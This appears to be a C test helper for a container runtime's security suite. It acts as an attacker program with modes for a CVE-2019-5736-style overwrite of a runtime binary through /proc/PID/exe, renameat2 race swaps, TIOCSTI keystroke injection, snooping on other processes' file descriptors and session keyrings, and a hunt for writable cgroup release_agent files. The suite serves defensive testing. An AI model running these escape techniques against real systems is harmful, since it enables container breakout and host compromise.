/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack - what an attacker's program does in the tests of security.  Static,
 * so that it runs on the host and in any container.
 *
 *     attack swap A B SECONDS      exchanges two names as fast as it can
 *     attack overwrite NAME SECONDS  tries to write into every /proc/PID/exe that ends in NAME
 *     attack fds SECONDS           prints every target of /proc/PID/fd of other processes that it can read
 *     attack tiocsti               types into the terminal on standard input
 *     attack keyring-add           puts a key into the session keyring, and sleeps
 *     attack keyring-find          looks for that key in its own session keyring
 *     attack keyring-run PROGRAM.. runs a program with a session keyring that has such a key
 *     attack release-agent         looks for a writable release_agent below /sys/fs/cgroup
 *
 * SIGTERM ends the first three before their time, after a last try.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static volatile sig_atomic_t told_to_end;

static void end_soon(int signal)
{
	(void)signal;
	told_to_end = 1;
}

static int until(time_t end)
{
	return !told_to_end && time(NULL) < end;
}

static int swap(const char *a, const char *b, time_t end)
{
	while (until(end)) {
		for (int i = 0; i < 1000; i++) {
			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
		}
	}
	return 0;
}

static int ends_with(const char *text, const char *tail)
{
	size_t length = strlen(text), tail_length = strlen(tail);

	return length >= tail_length && strcmp(text + length - tail_length, tail) == 0;
}

/* CVE-2019-5736: hold the binary by a read-only descriptor until it can be opened for writing. */
static void overwrite(const char *name, const char *pid, time_t end)
{
	char path[300], target[4096];
	ssize_t length;
	int held;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	length = readlink(path, target, sizeof(target) - 1);
	if (length <= 0)
		return;
	target[length] = '\0';
	/* A protected copy is on a mount that is nowhere ("/"), or in memory. */
	if (!ends_with(target, name) && strcmp(target, "/") != 0 && !strstr(target, "memfd:"))
		return;
	held = open(path, O_RDONLY);
	if (held < 0)
		return;
	printf("reached %s\n", target);
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int more = 1; more;) {
		int fd;

		/* Once more when it is over: who was in the way is gone by then. */
		more = until(end);
		fd = open(path, O_WRONLY);
		if (fd >= 0) {
			(void)!write(fd, "owned", 5);
			printf("WROTE %s\n", target);
			exit(1);
		}
		if (errno != ETXTBSY)
			break;
	}
	close(held);
}

static void show_fds(const char *pid)
{
	char dir[300], target[4096];
	struct dirent *entry;
	DIR *fds;

	(void)snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	fds = opendir(dir);
	while (fds && (entry = readdir(fds))) {
		ssize_t length = readlinkat(dirfd(fds), entry->d_name, target, sizeof(target) - 1);

		if (length <= 0 || target[0] != '/')
			continue;
		target[length] = '\0';
		printf("%s\n", target);
	}
	if (fds)
		closedir(fds);
}

static int scan(const char *what, const char *name, time_t end)
{
	char self[16];

	(void)snprintf(self, sizeof(self), "%d", (int)getpid());
	while (until(end)) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || strcmp(entry->d_name, self) == 0)
				continue;
			if (strcmp(what, "overwrite") == 0)
				overwrite(name, entry->d_name, end);
			else
				show_fds(entry->d_name);
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

static int release_agent(void)
{
	DIR *dir = opendir("/sys/fs/cgroup");
	struct dirent *entry;
	int found = 0;

	while (dir && (entry = readdir(dir))) {
		char path[400];
		int fd;

		(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/release_agent", entry->d_name);
		fd = open(path, O_WRONLY);
		if (fd >= 0) {
			printf("writable: %s\n", path);
			close(fd);
			found = 1;
		}
	}
	return found;
}

static const char key_name[] = "caisson-attack";

static int keyring_add(void)
{
	if (syscall(SYS_add_key, "user", key_name, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
		printf("no key: %s\n", strerror(errno));
		return 1;
	}
	printf("added\n");
	(void)fflush(stdout);
	return 0;
}

static int keyring_find(void)
{
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", key_name, 0);

	printf(key < 0 ? "nothing\n" : "FOUND\n");
	return 0;
}

static int keyring_run(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 || keyring_add() != 0)
		return 1;
	execv(argv[0], argv);
	return 1;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	/* Process 1 of a container hears only what it has a handler for. */
	(void)signal(SIGTERM, end_soon);
	if (strcmp(what, "swap") == 0 && argc == 5)
		return swap(argv[2], argv[3], time(NULL) + atoi(argv[4]));
	if (strcmp(what, "overwrite") == 0 && argc == 4)
		return scan(what, argv[2], time(NULL) + atoi(argv[3]));
	if (strcmp(what, "fds") == 0 && argc == 3)
		return scan(what, "", time(NULL) + atoi(argv[2]));
	if (strcmp(what, "tiocsti") == 0) {
		if (ioctl(STDIN_FILENO, TIOCSTI, "!") == 0)
			return 1;
		printf("refused: %s\n", strerror(errno));
		return 0;
	}
	if (strcmp(what, "release-agent") == 0)
		return release_agent();
	if (strcmp(what, "keyring-add") == 0)
		return keyring_add() || pause();
	if (strcmp(what, "keyring-find") == 0)
		return keyring_find();
	if (strcmp(what, "keyring-run") == 0 && argc > 2)
		return keyring_run(argv + 2);
	(void)fprintf(stderr, "attack: what?\n");
	return 2;
}
